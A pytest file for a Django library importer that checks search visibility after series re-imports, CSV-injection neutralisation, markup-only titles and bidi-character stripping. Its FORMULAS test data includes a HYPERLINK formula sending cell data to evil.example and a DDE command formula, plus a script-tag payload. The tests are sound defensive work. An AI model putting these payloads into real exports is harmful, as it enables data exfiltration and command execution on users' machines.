"""Issue 11, import side: re-imports that close a series reach its children in search (item 3), formula cells in
the reports, markup-only titles and control/bidi characters (item 10). Interrupted imports (item 7) are in
tests/library/test_import_resume.py."""

import csv
import io
import json

import pytest
from django.contrib.auth.models import AnonymousUser

from cms.models import OrgUnit
from cms.services import org_unit_create
from library.imports.importer import import_file, report_write_rejections
from library.models import LibraryItem
from library.text.cleaning import clean_text, neutralise_formula
from search.selectors import search_items
from search.services import search_outbox_drain_all
from tests.library.test_import import errors_by_id, write_csv

pytestmark = pytest.mark.django_db

SERIES_COLUMNS = ["external_id", "kind", "role", "parent_external_id", "title", "access", "access_unit", "is_published"]


@pytest.fixture
def units():
    province = org_unit_create(parent=None, name="山东省", code="shandong", level=OrgUnit.Level.PROVINCE)
    org_unit_create(parent=province, name="邹平市", code="zouping", level=OrgUnit.Level.COUNTY)
    return province


def _series_rows(**series):
    rows = [{"external_id": "S1", "kind": "audio", "role": "series", "title": "灯塔讲堂", "access": "public"} | series]
    rows += [
        {
            "external_id": f"E{n}",
            "kind": "audio",
            "role": "episode",
            "parent_external_id": "S1",
            "title": f"沂蒙讲堂{n}",
        }
        for n in (1, 2)
    ]
    return rows


def _write(path, rows, file_format):
    if file_format == "json":
        path.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
        return path
    return write_csv(path, rows, columns=SERIES_COLUMNS)


def _found(query: str) -> set[str]:
    search_outbox_drain_all()
    return {hit.title for hit in search_items(query=query, user=AnonymousUser()).hits}


@pytest.mark.parametrize("file_format", ["csv", "json"])
@pytest.mark.parametrize(
    "closing", [{"access": "unit", "access_unit": "zouping"}, {"is_published": "否"}], ids=["unit-only", "unpublished"]
)
def test_reimport_closing_a_series_removes_its_episodes_from_search(
    tmp_path, units, embedded_search, file_format, closing
):
    """A re-import that makes a public series unit-only or unpublished, with only the series row in the file,
    takes its episodes out of what anonymous search finds: the import goes through the same "opening changed"
    service as the admin form and bulk actions, which reindexes the item and its descendants."""
    first = _write(tmp_path / f"a.{file_format}", _series_rows(), file_format)
    assert import_file(path=first, file_format=None, source="s", unit=units).created == 3
    assert _found("沂蒙讲堂") == {"沂蒙讲堂1", "沂蒙讲堂2"}
    again = _write(tmp_path / f"b.{file_format}", _series_rows(**closing)[:1], file_format)
    assert import_file(path=again, file_format=None, source="s", unit=units).updated == 1
    assert _found("沂蒙讲堂") == set()
    assert LibraryItem.objects.filter(role="episode").count() == 2  # still there for those who may open them


@pytest.fixture
def embedded_search(settings):
    settings.SEARCH_URL = ""


def test_reimport_moving_an_issue_under_a_closed_title_hides_its_articles(tmp_path, units, embedded_search):
    """Moving an issue (by its parent_external_id) under an unpublished title hides the articles inside it from
    search too: the parent is part of what decides who may open an item."""
    columns = ["external_id", "kind", "role", "parent_external_id", "title", "is_published"]
    rows = [
        {"external_id": "T1", "kind": "periodical", "role": "series", "title": "公开刊"},
        {"external_id": "T2", "kind": "periodical", "role": "series", "title": "停刊", "is_published": "否"},
        {"external_id": "I1", "kind": "periodical", "role": "issue", "parent_external_id": "T1", "title": "第一期"},
        {"external_id": "A1", "kind": "article", "role": "article", "parent_external_id": "I1", "title": "沂蒙文章"},
    ]
    import_file(path=write_csv(tmp_path / "a.csv", rows, columns=columns), file_format=None, source="s", unit=units)
    assert _found("沂蒙文章") == {"沂蒙文章"}
    moved = [rows[2] | {"parent_external_id": "T2"}]
    import_file(path=write_csv(tmp_path / "b.csv", moved, columns=columns), file_format=None, source="s", unit=units)
    assert _found("沂蒙文章") == set()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def test_formula_cells_are_neutralised_in_the_rejected_rows_csv(tmp_path, units):
    """Rejected rows whose external id (or any echoed value) starts like a formula are written to the report CSV
    with a leading apostrophe, so Excel or WPS shows them as text instead of running them (OWASP CSV injection)."""
    rows = [{"external_id": value, "title": "书", "isbn": "9787020002208"} for value in FORMULAS]
    path = write_csv(tmp_path / "f.csv", rows, columns=["external_id", "title", "isbn"])
    batch = import_file(path=path, file_format=None, source="s", unit=units)
    assert batch.rejected == len(FORMULAS)
    stream = io.StringIO()
    report_write_rejections(batch=batch, stream=stream)
    cells = [row[1] for row in list(csv.reader(io.StringIO(stream.getvalue())))[1:]]
    assert sorted(cells) == sorted("'" + value.strip() for value in FORMULAS)
    assert not any(cell[:1] in "=+-@\t\r" for row in csv.reader(io.StringIO(stream.getvalue())) for cell in row)


def test_markup_only_title_is_reported_as_markup_not_as_missing(tmp_path, units):
    """A title that is only markup (``<script>alert(1)</script>``) is rejected saying so, not as "缺少标题"; a
    truly empty title still says it is missing."""
    rows = [
        {"external_id": "X1", "title": "<script>alert(1)</script>"},
        {"external_id": "X2", "title": "\u202e\u200f\x01"},
        {"external_id": "X3", "title": ""},
    ]
    batch = import_file(
        path=write_csv(tmp_path / "t.csv", rows, columns=["external_id", "title"]),
        file_format=None,
        source="s",
        unit=units,
    )
    errors = errors_by_id(batch)
    assert errors["X1"]["title"] == ["标题只有 HTML 标记，清理后为空"]
    assert "清理后为空" in errors["X2"]["title"][0] and "缺少标题" not in errors["X2"]["title"][0]
    assert "缺少标题" in errors["X3"]["title"][0]


def test_control_and_bidi_characters_are_stripped_from_imported_text(tmp_path, units):
    """Right-to-left overrides, embeddings, isolates, stray direction marks, C1 controls and a BOM are removed from
    titles and other text fields, raw or as character references; Uyghur text keeps its direction marks."""
    rows = [
        {"external_id": "B1", "title": "党\u202e史\u2066学习\u2069&#x202D;", "subtitle": "副\x85标题\u200e\ufeff"},
        {"external_id": "B2", "title": "ئۇيغۇرچە\u200f 2026", "subtitle": "x"},
    ]
    path = write_csv(tmp_path / "b.csv", rows, columns=["external_id", "title", "subtitle"])
    assert import_file(path=path, file_format=None, source="s", unit=units).created == 2
    item = LibraryItem.objects.get(external_id="B1")
    assert (item.title, item.subtitle) == ("党史学习", "副标题")
    assert LibraryItem.objects.get(external_id="B2").title == "ئۇيغۇرچە\u200f 2026"


def test_text_cleaning_helpers_for_other_forms():
    """The two helpers other forms reuse: clean_text strips controls and bidi overrides but keeps tabs, line
    breaks and ordinary text; neutralise_formula prefixes formula starts and leaves other cells alone."""
    assert clean_text("a\tb\nc\u202ed\x00\x9f") == "a\tb\ncd"
    assert clean_text("灯塔") == "灯塔"
    assert [neutralise_formula(v) for v in ("=1", " +1", "灯塔", "", "1-2")] == ["'=1", "' +1", "灯塔", "", "1-2"]
